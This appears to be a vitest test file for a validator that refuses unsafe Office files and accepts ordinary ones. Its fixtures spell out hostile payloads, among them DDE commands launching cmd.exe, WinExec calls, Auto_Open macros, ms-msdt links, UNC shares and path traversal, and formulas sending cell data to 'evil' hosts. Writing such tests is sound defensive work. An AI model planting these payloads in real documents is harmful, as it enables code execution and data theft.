import { describe, expect, it } from 'vitest';
import * as office from '../../../../test/office-files.ts';
import { drawing } from '../../../../test/sample-files.ts';
import { detect } from './format.rules.ts';
import { detectOffice } from './office.rules.ts';

const { field, officeFile, officeParts, relationships, wordDocument, zipParts } = office;
const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const png = await drawing();
const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const sheets = 'application/vnd.openxmlformats-officedocument.spreadsheetml';

const doc = (body: string) => officeFile('docx', { 'word/document.xml': wordDocument(body) });
const related = (type: string, target: string, mode?: string) =>
  officeFile('docx', {
    'word/_rels/document.xml.rels': relationships({ type, target, ...(mode && { mode }) }),
  });
const workbook = (inside: string) =>
  officeFile('xlsx', { 'xl/workbook.xml': `<workbook>${inside}</workbook>` });
const sheet = (formula: string) =>
  officeFile(
    'xlsx',
    { 'xl/worksheets/sheet1.xml': `<worksheet><c><f>${formula}</f></c></worksheet>` },
    { 'xl/worksheets/sheet1.xml': `${sheets}.worksheet+xml` },
  );
const typed = (name: string, bytes: Uint8Array | string, type: string) =>
  officeFile('docx', { [name]: bytes }, { [name]: type });
const text = (words: string) => Buffer.from(words);

function expectRefused(bytes: Buffer, reason: RegExp): void {
  expect(detectOffice(bytes)).toEqual({ refused: expect.stringMatching(reason) as string });
}

describe('an Office document is identified by its content', () => {
  it.each(['docx', 'xlsx', 'pptx'] as const)('%s', (format) => {
    const bytes = officeFile(format);
    expect(detect(bytes)).toBe('office');
    expect(detectOffice(bytes)).toEqual({ format });
  });
});

describe('what runs is refused, under whatever name', () => {
  it.each<[string, Buffer]>([
    ['macros by type', typed('word/a.bin', 'x', 'application/vnd.ms-office.vbaProject')],
    [
      'a document type with macros',
      typed('word/b.xml', '<x/>', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    ],
    [
      'macros by relationship',
      related(
        'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
        'media/image1.png',
      ),
    ],
    ['a template', related('attachedTemplate', 'https://example.com/a.dotm', 'External')],
    ['a template of the package', related('attachedTemplate', 'template.xml')],
    [
      'a template in the strict namespace',
      related('http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate', 'a'),
    ],
    ['an embedded object by relationship', related('oleObject', 'media/image1.png')],
    ['an embedded package by relationship', related('package', 'media/image1.png')],
    ['a frame', related('frame', 'https://example.com', 'External')],
    ['a part of another document', related('subDocument', 'https://example.com', 'External')],
    ['a page as text', related('aFChunk', 'page.xml')],
    ['a control', related('control', 'activeX/a.xml')],
    ['OLE named as a picture', typed('word/media/image1.png', ole, 'image/png')],
    [
      'OLE behind the mark of a picture',
      typed('word/media/image1.bmp', Buffer.concat([text('BM'), ole]), 'image/bmp'),
    ],
    [
      'OLE as a font',
      typed(
        'word/fonts/a.odttf',
        ole,
        'application/vnd.openxmlformats-officedocument.obfuscatedFont',
      ),
    ],
    ['a program as a recording', typed('word/media/a.mp4', text('MZ\x90'), 'video/mp4')],
    ['an archive in the archive', typed('word/media/a.mp4', zipParts({ a: 'x' }), 'video/mp4')],
    ['a page as a picture', typed('word/media/a.png', '<html><script>1</script>', 'image/png')],
    [
      'a script in a drawing',
      typed('word/media/a.svg', '<svg xmlns="a"><script>1</script></svg>', 'image/svg+xml'),
    ],
    [
      'a click in a drawing',
      typed('word/media/a.svg', '<svg onload="alert(1)"/>', 'image/svg+xml'),
    ],
    [
      'a stylesheet that runs',
      typed('customXml/item1.xml', '<?xml-stylesheet href="a.xsl"?><a/>', 'application/xml'),
    ],
    [
      'a script in custom data',
      typed('customXml/item1.xml', '<a><s:script xmlns:s="b">1</s:script></a>', 'application/xml'),
    ],
    ['an OLE element', doc('<w:object><o:OLEObject xmlns:o="a" ProgID="Package"/></w:object>')],
    ['DDE', doc(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))],
    ['DDE split over runs', doc(field(' D', 'DE', 'AU', 'TO "cmd" "x"'))],
    ['DDE in small letters', doc(field('ddeauto"cmd" "x"'))],
    ['DDE written with codes', doc(field(' &#68;D&#x45; cmd x'))],
    ['DDE as text without escapes', doc(field('<![CDATA[DDE cmd x]]>'))],
    ['DDE in a simple field', doc('<w:fldSimple w:instr=" DDE cmd x "/>')],
    ['DDE under another prefix', doc('<q:fldSimple xmlns:q="w" q:instr="DDE cmd x"/>')],
    [
      'DDE in a footnote',
      typed('word/footnotes.xml', wordDocument(field('DDE cmd')), `${word}.footnotes+xml`),
    ],
    [
      'DDE whose name another field computes',
      doc(
        `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('QUOTE 68 68 69')}<w:r><w:instrText> cmd x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      ),
    ],
    [
      'DDE in UTF-16',
      typed(
        'word/header1.xml',
        Buffer.from(
          `\uFEFF${wordDocument(field('DDE cmd')).replace('UTF-8', 'UTF-16')}`,
          'utf16le',
        ),
        `${word}.header+xml`,
      ),
    ],
    ['a field that nobody knows', doc(field('WHATEVER x'))],
    ['a button with a macro', doc(field('MACROBUTTON run click'))],
    [
      'DDE of a workbook',
      typed('xl/externalLinks/a.xml', '<ddeLink ddeService="cmd"/>', 'application/xml'),
    ],
    ['DDE in a formula', sheet("cmd|'/c calc'!A0")],
    ['a formula that calls a library', sheet('CALL("kernel32","WinExec","JC",1)')],
    ['DDE behind a sheet with a quote', sheet(`'a"'!B1+cmd|'/c calc'!A0+""`)],
    ['DDE in one name', sheet("'cmd|/c calc'!A0")],
    ['a function of an add-in', sheet('_xll.RUNALL(1)')],
    ['a function that is passed on', sheet('MAP(A1:A2,_xleta.CALL)')],
    [
      'a formula of a table column',
      typed(
        'xl/tables/a.xml',
        '<calculatedColumnFormula>CALL("a")</calculatedColumnFormula>',
        'application/xml',
      ),
    ],
    ['a page in a drawing', typed('word/media/a.svg', '<svg><iframe/></svg>', 'image/svg+xml')],
    ['a sheet of old macros', typed('xl/a.xml', '<x/>', 'application/vnd.ms-excel.macrosheet+xml')],
    [
      'an old macro sheet under another type',
      typed('xl/a.xml', '<m:macrosheet xmlns:m="a"/>', 'application/xml'),
    ],
    [
      'a name that opens itself',
      workbook('<definedName name="_xlnm.Auto_Open">A!$A$1</definedName>'),
    ],
    ['a name that is a macro', workbook('<definedName name="a" xlm="1">A!$A$1</definedName>')],
    ['a shape with a macro', doc('<xdr:sp xmlns:xdr="a" macro="[0]!run"/>')],
    [
      'a slide that starts a program',
      officeFile('pptx', {
        'ppt/presentation.xml': '<p><a:hlinkClick xmlns:a="a" action="ppaction://program"/></p>',
      }),
    ],
  ])('%s', (_, bytes) => expectRefused(bytes, /含有宏、嵌入的程序或自动操作/));
});

describe('what is fetched from outside is refused', () => {
  it.each<[string, Buffer]>([
    ['a picture', related('image', 'https://example.com/a.png', 'External')],
    ['a picture of a share', related('image', 'file://evil/a.png', 'External')],
    ['another workbook', related('externalLink', 'externalLinks/a.xml')],
    ['the path of another workbook', related('externalLinkPath', 'a.xlsx', 'External')],
    ['data of a connection', related('connections', 'connections.xml')],
    ['a link to a file', related('hyperlink', 'file:///c:/a.exe', 'External')],
    ['a link to a share', related('hyperlink', '\\\\evil\\a', 'External')],
    ['a link to a program of the system', related('hyperlink', 'ms-msdt:/id', 'External')],
    ['a link that hides its scheme', related('hyperlink', 'java&#9;script:alert(1)', 'External')],
    ['an address said to be inside', related('image', 'https://example.com/a.png')],
    ['a share said to be inside', related('image', '//evil/a.png', 'Internal')],
    ['a picture by a field', doc(field('INCLUDEPICTURE "http://example.com/a.png"'))],
    ['a text by a field', doc(field('INCLUDE', 'TEXT "c:\\\\a.doc"'))],
    ['a link by a field', doc(field('HYPERLINK "file:///c:/a.exe"'))],
    ['a link to a share by a bare field', doc(field('HYPERLINK \\\\evil\\a.exe'))],
    ['a link to a share behind a place', doc(field('HYPERLINK \\l "a" "\\\\evil\\a"'))],
    ['a share with a slash', related('image', '/\\evil\\a.png')],
    ['a share with codes', related('image', '%5C%5Cevil%5Ca.png')],
    ['a share with codes of codes', related('image', '%255C%255Cevil%255Ca.png')],
    ['an address with codes', related('image', 'http%3A//evil/a.png')],
    ['a link to a page of an archive', related('hyperlink', 'mhtml:http://evil/x!x', 'External')],
    ['a picture of a cell', related('rdRichValueWebImage', 'a.xml')],
    ['a formula that fetches', sheet('1+WEBSERVICE("http://example.com")')],
    ['one with a line break', sheet('WEBSERVICE&#10;&#160;("http://example.com")')],
    ['one in wide letters', sheet('ＷＥＢＳＥＲＶＩＣＥ（"http://example.com")')],
    ['one behind a sheet with a quote', sheet(`IF('a"'!B1=0,WEBSERVICE("http://a"),0)`)],
    ['one behind a text with an apostrophe', sheet(`"it's"&amp;WEBSERVICE("http://a")&amp;"'"`)],
    ['a picture of a formula', sheet('_xlfn.IMAGE("http://example.com/x?"&amp;A2)')],
    ['prices', sheet('_xlfn._xlws.STOCKHISTORY("MSFT",1)')],
    ['data of a page', sheet('IMPORTDATA("http://example.com")')],
    ['a table of a page', sheet('IMPORTHTML("http://example.com","table",1)')],
    ['another sheet service', sheet('GOOGLEFINANCE("A")')],
    ['a cube', sheet('CUBEVALUE("a","b")')],
    ['a link of a formula to a share', sheet('HYPERLINK("\\\\evil\\x.exe","点击")')],
    ['a link of a formula to a file', sheet('HYPERLINK("file://evil/x.exe")')],
    ['a link that a formula computes', sheet('HYPERLINK("fi"&amp;"le://evil/x.exe")')],
    ['a link of a cell', sheet('HYPERLINK(B1)')],
    ['a workbook of a share', sheet("'\\\\evil\\[a.xlsx]b'!A1")],
    [
      'a base of all links',
      typed('docProps/app.xml', '<a><HyperlinkBase>file://evil</HyperlinkBase></a>', 'text/xml'),
    ],
    ...(
      [
        ['a stylesheet', '<style>@import url(http://evil/x.css);</style>'],
        ['an escaped stylesheet', '<style>\\@import "x"; a{b:u\\72l(x)}</style>'],
        ['a filling', '<rect style="fill:url(http://evil/x)"/>'],
        ['a filling by an attribute', '<rect fill="url(//evil/x#a)"/>'],
        ['a picture', '<image href="https://evil/x.png"/>'],
        ['a picture of old', '<image xmlns:x="a" x:href="https://evil/x.png"/>'],
        ['a change of a link', '<set attributeName="href" to="https://evil"/>'],
        ['a base', '<g xml:base="https://evil/"/>'],
      ] as const
    ).map(([name, inside]): [string, Buffer] => [
      `${name} in a drawing`,
      typed('word/media/a.svg', `<svg>${inside}</svg>`, 'image/svg+xml'),
    ]),
    ['a picture by an attribute', doc('<v:imagedata xmlns:v="a" src="http://example.com/a"/>')],
  ])('%s', (_, bytes) => expectRefused(bytes, /引用了外部内容/));
});

describe('what is not understood is refused', () => {
  const broken = (change: (bytes: Buffer) => void) => {
    const bytes = officeFile('docx');
    change(bytes);
    return bytes;
  };
  const listAt = (bytes: Buffer) => bytes.indexOf('PK\x01\x02', 0, 'latin1');
  it.each<[string, Buffer, RegExp]>([
    [
      'a relationship of another maker',
      related('https://example.com/x/image', 'a.png'),
      /无法检查/,
    ],
    ['another mode', related('image', 'media/a.png', 'external'), /无法检查/],
    ['a part of unknown type', officeFile('docx', { 'word/a.dat': 'x' }), /无法检查/],
    ['a part of another type', typed('word/a.dat', 'x', 'application/octet-stream'), /无法检查/],
    ['a picture that is none', typed('word/a.png', 'x', 'image/png'), /无法检查/],
    ['an XML that is none', typed('word/a.xml', '<a><b></a>', `${word}.styles+xml`), /无法检查/],
    [
      'a document type',
      typed('word/a.xml', '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>', `${word}.styles+xml`),
      /无法检查/,
    ],
    [
      'another encoding',
      typed('word/a.xml', '<?xml version="1.0" encoding="utf-7"?><a/>', `${word}.styles+xml`),
      /无法检查/,
    ],
    [
      'two documents in one',
      officeFile(
        'docx',
        { 'xl/workbook.xml': '<x/>' },
        { 'xl/workbook.xml': `${sheets}.sheet.main+xml` },
      ),
      /不支持压缩包/,
    ],
    ['an archive of pages', zipParts({ 'index.html': '<script>1</script>' }), /不支持压缩包/],
    [
      'a document without its list of types',
      zipParts({ 'word/document.xml': '<x/>' }),
      /不支持压缩包/,
    ],
    [
      'a list of types that is ambiguous',
      officeFile('docx', {}, { XML: 'text/xml' }),
      /不支持压缩包/,
    ],
    ['a way out of its folder', officeFile('docx', { '../../etc/passwd': 'x' }), /已损坏/],
    ['a name in two cases', officeFile('docx', { 'word/Document.xml': '<x/>' }), /已损坏/],
    [
      'a head that says another name',
      broken((bytes) => bytes.write('X', bytes.indexOf('word/document.xml'))),
      /已损坏/,
    ],
    ['a head that says another size', broken((bytes) => void bytes.writeUInt32LE(1, 22)), /已损坏/],
    [
      'a list that says another size',
      broken((bytes) => void bytes.writeUInt32LE(1, listAt(bytes) + 24)),
      /已损坏/,
    ],
    [
      'a wrong checksum',
      broken((bytes) => void [14, listAt(bytes) + 16].map((at) => bytes.writeUInt32LE(7, at))),
      /已损坏/,
    ],
    [
      'an encrypted part',
      broken((bytes) => void [6, listAt(bytes) + 8].map((at) => bytes.writeUInt16LE(1, at))),
      /已加密/,
    ],
    ['something in front', Buffer.concat([text('#!/bin/sh\n'), officeFile('docx')]), /已损坏/],
    ['something behind', Buffer.concat([officeFile('docx'), text('x')]), /已损坏/],
    [
      'a second archive in front',
      Buffer.concat([zipParts({ a: 'x' }), officeFile('docx')]),
      /已损坏/,
    ],
    ['one that breaks off', officeFile('docx').subarray(0, 100), /已损坏/],
    [
      'a bomb',
      typed('word/media/a.png', Buffer.alloc(50 * 1024 * 1024), 'image/png'),
      /压缩内容异常/,
    ],
    [
      'more parts than a document has',
      officeFile(
        'docx',
        Object.fromEntries(Array.from({ length: 5001 }, (_, index) => [`a/${index}`, 'x'])),
      ),
      /压缩内容异常/,
    ],
    ['zip64', broken((bytes) => bytes.fill(0xff, bytes.length - 6, bytes.length - 2)), /已损坏/],
  ])('%s', (_, bytes, reason) => expectRefused(bytes, reason));

  it.each([
    ['a page', '<!doctype html><html><body><script>1</script></body></html>'],
    ['a page that Word would open', '<html xmlns:o="urn:schemas-microsoft-com:office:office">'],
    ['rich text', '{\\rtf1\\ansi}'],
    ['a document of before 2007', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'],
  ])('%s is no Office document, whatever its name', (_, bytes) => {
    expect(detect(Buffer.from(bytes, 'latin1'))).not.toBe('office');
  });
});

describe('what documents usually have is accepted', () => {
  it('pictures, links, fonts, comments, custom data, fields and folders', () => {
    const parts = officeParts(
      'docx',
      {
        'word/': '',
        'word/document.xml': wordDocument(
          field(' PAGE ') +
            field(' TOC \\o "1-3" \\h \\z \\u ') +
            field('HYPERLINK "https://example.com/a" \\l "b"') +
            field(' HYPERLINK \\l "_Toc1" ') +
            field(' =SUM(ABOVE) '),
        ),
        'word/_rels/document.xml.rels': relationships(
          { type: 'hyperlink', target: 'https://example.com/a?b=c&amp;d', mode: 'External' },
          { type: 'hyperlink', target: 'mailto:a@example.com', mode: 'External' },
          { type: 'image', target: 'media/image1.png' },
          { type: 'comments', target: 'comments.xml' },
          {
            type: 'http://schemas.microsoft.com/office/2011/relationships/people',
            target: 'people.xml',
          },
          { type: 'customXml', target: '../customXml/item1.xml' },
        ),
        'word/media/image1.png': png,
        'word/fonts/font1.odttf': Buffer.alloc(64, 9),
        'word/comments.xml': '<w:comments xmlns:w="a"><w:comment>好</w:comment></w:comments>',
        'word/people.xml': '<w15:people xmlns:w15="a"/>',
        'customXml/item1.xml': '<b:Sources xmlns:b="a"/>',
        'docProps/core.xml': '<cp:coreProperties xmlns:cp="a"/>',
      },
      {
        png: 'image/png',
        odttf: 'application/vnd.openxmlformats-officedocument.obfuscatedFont',
        'word/comments.xml': `${word}.comments+xml`,
        'word/people.xml': `${word}.people+xml`,
        'docProps/core.xml': 'application/vnd.openxmlformats-package.core-properties+xml',
      },
    );
    expect(detectOffice(zipParts(parts))).toEqual({ format: 'docx' });
  });

  it('drawings with styles and links', () => {
    const svg =
      '<svg><style>.a{fill:#fff;font-family:"宋体"}</style><rect class="a" fill="url(#b)"/><a href="https://example.com"/><image href="data:image/png;base64,AA"/></svg>';
    expect(detectOffice(typed('word/media/a.svg', svg, 'image/svg+xml'))).toEqual({
      format: 'docx',
    });
  });

  it.each([
    `IF('张"三'!B1=0,"a|b!",'it''s'!A1)`,
    'HYPERLINK("https://example.com/"&amp;A1,"打开")',
    'HYPERLINK("#Sheet2!A1")',
    'HYPERLINK("mailto:a@example.com")',
    `"说""明""：WEBSERVICE(""x"")"`,
    'SUMIFS(Table1[Image],Table1[Call],"&gt;0")+_xlfn.XLOOKUP(A1,B:B,C:C)',
    '_xlfn.DISPIMG("ID_1",1)',
    "SUM('第1季:第3 季'!A1:A9)",
  ])('the formula %s', (words) => expect(detectOffice(sheet(words))).toEqual({ format: 'xlsx' }));

  it('formulas, names, comments drawn by VML, printers and pictures in cells', () => {
    const parts = officeParts(
      'xlsx',
      {
        'xl/workbook.xml':
          '<workbook><definedName name="_xlnm.Print_Area" localSheetId="0">A!$A$1</definedName></workbook>',
        'xl/worksheets/sheet1.xml':
          '<worksheet><f>IF(A1&gt;1,"a|b!",SUM(\'表 1\'!A1:A9))</f><drawing macro=""/></worksheet>',
        'xl/drawings/vmlDrawing1.vml':
          '<xml xmlns:v="a"><v:shape href="https://example.com"/></xml>',
        'xl/printerSettings/printerSettings1.bin': Buffer.from('P\0r\0i\0n\0t\0'),
        'xl/_rels/workbook.xml.rels': relationships({
          type: 'http://www.wps.cn/officeDocument/2020/cellImage',
          target: 'cellimages.xml',
        }),
        'xl/cellimages.xml': '<etc:cellImages xmlns:etc="a"/>',
      },
      {
        vml: 'application/vnd.openxmlformats-officedocument.vmlDrawing',
        bin: `${sheets}.printerSettings`,
        'xl/worksheets/sheet1.xml': `${sheets}.worksheet+xml`,
        'xl/cellimages.xml': 'application/vnd.wps-officedocument.cellimage+xml',
      },
    );
    expect(detectOffice(zipParts(parts))).toEqual({ format: 'xlsx' });
  });
});
